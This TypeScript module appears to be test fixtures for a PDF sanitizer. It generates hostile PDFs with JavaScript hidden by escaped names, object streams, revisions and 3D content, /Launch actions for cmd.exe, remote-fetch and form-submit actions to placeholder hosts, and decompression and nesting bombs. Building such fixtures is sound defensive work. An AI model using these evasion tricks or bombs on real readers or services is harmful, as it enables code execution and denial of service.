import { constants, deflateRawSync, deflateSync } from 'node:zlib'
import { objectStreamPdf, pagedPdf, pdfOf, plainPdf, type PdfObject } from './pdfs.ts'

const MIB = 1024 * 1024
const script = '<< /S /JavaScript /JS (app.alert(1)) >>'

/** Deflate data that unfold to `mebibytes` MiB of blanks; a gibibyte is made in no time, since one block is repeated. */
function blanks(mebibytes: number): Buffer {
  const block = deflateRawSync(Buffer.alloc(MIB, ' '), { finishFlush: constants.Z_FULL_FLUSH })
  const blocks = Array.from({ length: mebibytes }, () => block)
  return Buffer.concat([Buffer.from([0x78, 0x9c]), ...blocks, deflateRawSync(Buffer.alloc(0))])
}

const catalog = '<< /Type /Catalog /Pages 2 0 R >>'
const pages = '<< /Type /Pages /Count 1 /Kids [3 0 R] >>'
const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>'
const withContents = (contents: PdfObject) => pdfOf([catalog, pages, page, contents])

const launch = '<< /S /Launch /F (cmd.exe) >>'
const opening = { catalog: '/OpenAction 4 0 R' }
const withAction = (action: string) => pagedPdf(1, { ...opening, more: [action] })
const storeOf = (stored: string, dictionary: string) =>
  objectStreamPdf(['<< >>'], { catalog: '/OpenAction 10 0 R', more: [{ dictionary, stream: Buffer.from(stored) }] })
const spaceDrawing = (entry: string) =>
  pagedPdf(1, {
    more: [
      { dictionary: `/Type /3D /Subtype /U3D ${entry}`, stream: Buffer.from('U3D') },
      { dictionary: '', stream: Buffer.from('app.alert(1)') },
    ],
  })

/** A form of one field, whose keys a script looks at. */
export const fieldPdf = (script: string, event = 'K') =>
  pagedPdf(1, {
    catalog: '/AcroForm << /Fields [4 0 R] >>',
    more: [
      `<< /FT /Tx /T (date) /AA << /${event} << /S /JavaScript /JS <${Buffer.from(script, 'latin1').toString('hex')}> >> >> >>`,
    ],
  })

/** Scripts and commands, put where one reader or another does not look. */
export const disguises: Readonly<Record<string, () => Buffer>> = {
  'a script': () => withAction(script),
  'a script in a store of objects': () => objectStreamPdf([script], { catalog: '/OpenAction 10 0 R' }),
  'a script in a store that is folded otherwise': () =>
    objectStreamPdf([script], {
      catalog: '/OpenAction 10 0 R',
      fold: plain => Buffer.from(`${plain.toString('hex')}>`),
      filter: '/ASCIIHexDecode',
    }),
  'a script whose names are escaped': () => withAction('<< /S /J#61vaScript /#4a#53 (app.alert(1)) >>'),
  'a script that a later object of the same number replaces': () =>
    Buffer.concat([withAction(script), Buffer.from('4 0 obj\n<< >>\nendobj\n')]),
  'a script added by a later revision': () =>
    Buffer.concat([
      plainPdf(),
      Buffer.from(`3 0 obj\n<< /Type /Page /Parent 2 0 R /AA << /O ${script} >> >>\nendobj\n`),
    ]),
  'a script on a page': () => pagedPdf(1, { pageExtra: `/AA << /O ${script} >>` }),
  'a script inside an image, where the table of contents points': () =>
    pagedPdf(1, {
      ...opening,
      more: [{ dictionary: '/Subtype /Image', stream: Buffer.from(`9 0 obj ${script} endobj`) }],
    }),
  'a script inside an image, its names escaped': () =>
    pagedPdf(1, {
      more: [{ dictionary: '', stream: Buffer.from('9 0 obj << /S /J#61vaScript /#4a#53 (x) >> endobj') }],
    }),
  'a script in a comment': () => Buffer.concat([plainPdf(), Buffer.from(`%9 0 obj ${script} endobj\n`)]),
  'a script in an object that does not read to its end': () =>
    Buffer.concat([plainPdf(), Buffer.from('9 0 obj\n<< /S /JavaScript /JS (x) /More [ <')]),
  'a script in a form that is drawn by it': () => pagedPdf(1, { catalog: '/NeedsRendering true' }),
  'a script in a form in XML': () =>
    pagedPdf(1, {
      catalog: '/AcroForm << /XFA [(template) 4 0 R] >>',
      more: [{ dictionary: '/Filter /FlateDecode', stream: deflateSync('<template><script>x</script></template>') }],
    }),
  'a script that a drawing in space brings along': () => spaceDrawing('/OnInstantiate 5 0 R'),
  'a script in a drawing in space, its name escaped': () => spaceDrawing('/On#49nstantiate 5 0 R'),
  'a command': () => withAction(launch),
  'a command inside the catalog': () => pagedPdf(1, { catalog: `/OpenAction ${launch}` }),
  'a command whose name is an object of its own': () =>
    pagedPdf(1, { catalog: '/OpenAction << /S 4 0 R /F (cmd.exe) >>', more: ['/Launch'] }),
  'a command written over by a second entry': () =>
    pagedPdf(1, { catalog: '/OpenAction << /S /Launch /S /URI /F (cmd.exe) >>' }),
  'a script among the stock calls of a field': () => fieldPdf('AFDate_FormatEx("dd/mm/yyyy"); app.alert(1)'),
  'a stock call that names another field': () => fieldPdf('AFNumber_Format(2, 0, 0, 0, this.getField("a"), true);'),
  'a stock call where a document begins': () => withAction('<< /S /JavaScript /JS (AFNumber_Format\\(2\\)) >>'),
  'a stock call of a page': () =>
    pagedPdf(1, { pageExtra: '/AA << /C << /S /JavaScript /JS (AFNumber_Format\\(2\\)) >> >>' }),
  'a script that a second entry of a field writes over': () =>
    pagedPdf(1, {
      more: ['<< /FT /Tx /AA << /K << /S /JavaScript /JS (app.alert\\(1\\)) /JS (AFNumber_Format\\(2\\)) >> >> >>'],
    }),
  'a script of a field that a later object replaces by a stock call': () =>
    Buffer.concat([
      pagedPdf(1, { more: ['<< /FT /Tx /AA << /K 5 0 R >> >>', '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'] }),
      Buffer.from('5 0 obj\n<< /S /JavaScript /JS (AFNumber_Format\\(2\\)) >>\nendobj\n'),
    ]),
  'a stock call that is a field action and opens the document': () =>
    pagedPdf(1, {
      catalog: '/OpenAction 5 0 R',
      more: ['<< /FT /Tx /AA << /K 5 0 R >> >>', '<< /S /JavaScript /JS (AFNumber_Format\\(2\\)) >>'],
    }),
  'a way to another computer when it opens': () => withAction('<< /S /GoToR /F (\\\\\\\\host\\\\share\\\\a.pdf) >>'),
  'a file of another computer when it opens': () => withAction('<< /S /GoToE /F (//host/a.pdf) /T << >> >>'),
  'data of another computer when its page opens': () =>
    pagedPdf(1, { pageExtra: '/AA << /O << /S /ImportData /F (//host/a.fdf) >> >>' }),
  'a page that sends its form when it closes': () =>
    pagedPdf(1, { pageExtra: '/AA << /C 4 0 R >>', more: ['<< /S /SubmitForm /F (https://a.example) >>'] }),
  'an address when it opens': () => pagedPdf(1, { catalog: '/OpenAction << /S /URI /URI (https://a.example) >>' }),
  'an address after a jump when it opens': () =>
    pagedPdf(1, {
      catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (https://a.example) >>] >>',
    }),
  'an address when a field is entered, by objects of their own': () =>
    pagedPdf(1, {
      more: ['<< /FT /Tx /AA 5 0 R >>', '<< /Fo 6 0 R >>', '<< /S 7 0 R /URI (https://a.example) >>', '/URI'],
    }),
  'an address when it opens, written over by a second entry': () =>
    pagedPdf(1, { catalog: '/OpenAction << /S /URI /URI (https://a.example) >> /OpenAction [3 0 R /Fit]' }),
  'a stream whose bytes lie elsewhere': () =>
    pagedPdf(1, { more: [{ dictionary: '/F (//host/a.bin)', stream: Buffer.alloc(0) }] }),
  'a command in an array in an array': () => withAction(`[[ ${launch} ]]`),
}

/** Stores of objects that pdf-lib does not open and another reader might. */
export const closedStores: Readonly<Record<string, () => Buffer>> = {
  'a store of objects that does not say so': () => storeOf('10 0 << >>', '/N 1 /First 5'),
  'a store of objects folded in an unknown way': () =>
    objectStreamPdf([script], { fold: plain => plain, filter: '/BrotliDecode' }),
  'a store of objects inside an image': () =>
    pagedPdf(1, {
      more: [{ dictionary: '', stream: Buffer.from('9 0 obj << /Type /ObjStm /N 1 /First 5 /Length 9 >> stream') }],
    }),
}

/** Files that want memory or time without end. */
export const bombs: Readonly<Record<string, () => Buffer>> = {
  'a page of 1 GiB, folded twice': () =>
    withContents({ dictionary: '/Filter [/FlateDecode /FlateDecode]', stream: deflateSync(blanks(1024)) }),
  'a store of objects of 1 GiB, folded twice': () =>
    objectStreamPdf(['<< >>'], { fold: () => deflateSync(blanks(1024)), filter: '[/FlateDecode /FlateDecode]' }),
  'a store that claims 2,147,483,647 objects': () => objectStreamPdf(['<< >>'], { claimed: 2_147_483_647 }),
  'a table of contents of 2,147,483,647 entries': () => objectStreamPdf(['<< >>'], { size: 2_147_483_647 }),
  '60,000 pages': () => pagedPdf(60_000),
  '200,000 times the same page': () =>
    pdfOf([catalog, `<< /Type /Pages /Count 200000 /Kids [${'3 0 R '.repeat(200_000)}] >>`, page, '<< >>']),
  'a count that lies': () => pdfOf([catalog, '<< /Type /Pages /Count 2000000000 /Kids [3 0 R] >>', page, '<< >>']),
  'a count that is short': () =>
    pdfOf([catalog, '<< /Type /Pages /Count 1 /Kids [3 0 R 3 0 R 3 0 R] >>', page, '<< >>']),
  'a tree of pages that holds itself': () => pdfOf([catalog, '<< /Type /Pages /Count 5 /Kids [2 0 R] >>', page]),
  'a tree of pages 3,000 deep': () => deepTree(3_000),
  'an array 200,000 deep': () => withContents('['.repeat(200_000) + ']'.repeat(200_000)),
  'a dictionary 50,000 deep': () => withContents('<< /A '.repeat(50_000) + '1' + ' >>'.repeat(50_000)),
  'a quarter of a million objects': () => pdfOf([catalog, pages, page, ...Array.from({ length: 250_000 }, () => '0')]),
  'two million times the beginning of an object': () =>
    withContents({ dictionary: '', stream: Buffer.from('1 0 obj\n'.repeat(2_000_000)) }),
  'references that go in a circle': () => withContents('4 0 R'),
}

/** Trees of pages and images that are not what they say. */
export const lies: Readonly<Record<string, readonly [make: () => Buffer, reason: string]>> = {
  'a count of one over three pages': [
    () => pdfOf([catalog, '<< /Type /Pages /Count 1 /Kids [3 0 R 3 0 R 3 0 R] >>', page, '<< >>']),
    'damaged',
  ],
  'a negative count over a page': [
    () => pdfOf([catalog, '<< /Type /Pages /Count -1 /Kids [3 0 R] >>', page, '<< >>']),
    'damaged',
  ],
  'a negative count over nothing': [() => pdfOf([catalog, '<< /Type /Pages /Count -1 /Kids [] >>']), 'noPages'],
  'a tree that leads to itself ten times over': [
    () => pdfOf([catalog, `<< /Type /Pages /Count 1 /Kids [3 0 R ${'2 0 R '.repeat(10)}] >>`, page, '<< >>']),
    'damaged',
  ],
  'an image of 225 megapixels': [
    () =>
      pagedPdf(1, {
        more: [
          { dictionary: '/Subtype /Image /Width 15000 /Height 15000 /Filter /JBIG2Decode', stream: Buffer.from('x') },
        ],
      }),
    'tooComplex',
  ],
  'an image whose width is an object of its own': [
    () =>
      pagedPdf(1, {
        more: [
          { dictionary: '/Subtype /Image /Width 5 0 R /Height 15000 /Filter /JPXDecode', stream: Buffer.from('x') },
          '15000',
        ],
      }),
    'tooComplex',
  ],
  'a page that was folded twice and unfolds to 64 MiB': [
    () => withContents({ dictionary: '/Filter [/FlateDecode /FlateDecode]', stream: deflateSync(blanks(64)) }),
    'tooComplex',
  ],
  'a page that was folded twice, written out': [
    () =>
      withContents({
        dictionary: '/Filter [/AHx /Fl /Fl]',
        stream: Buffer.from(`${deflateSync(blanks(64)).toString('hex')}>`),
      }),
    'tooComplex',
  ],
}

function deepTree(depth: number): Buffer {
  const nodes = Array.from({ length: depth }, (_, index) => `<< /Type /Pages /Count 1 /Kids [${index + 3} 0 R] >>`)
  return pdfOf([catalog, ...nodes, `<< /Type /Page /Parent ${depth + 1} 0 R /MediaBox [0 0 9 9] >>`])
}
